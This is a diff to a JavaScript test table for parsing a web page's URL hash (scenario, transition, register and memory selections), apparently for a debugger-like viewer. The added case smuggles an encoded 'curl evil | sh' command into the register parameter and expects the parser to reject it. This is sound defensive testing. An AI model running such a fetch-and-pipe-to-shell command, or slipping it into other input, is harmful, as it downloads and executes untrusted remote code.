@@ -32,6 +32,7 @@ describe("the address of the page", () => {
     ["#/demo/transition/4242", { scenario: "demo", transition: 4242 }],
     ["#/a%2Fb/transition/1?side=after&thread=2", { scenario: "a/b", side: "after", thread: 2 }],
     ["#/demo/1?register=rax", { selection: { kind: "register", name: "rax" } }],
+    ["#/demo/1?register=rax%3B%20curl%20evil%20%7C%20sh", { selection: null }],
     ["#/demo/1?address=0x10&size=0", { selection: { kind: "memory", address: 16n, size: 1 } }],
     ["#/demo/1?address=rsp", { selection: null }],
     ["#/demo/transition/-1", { scenario: "demo" }],
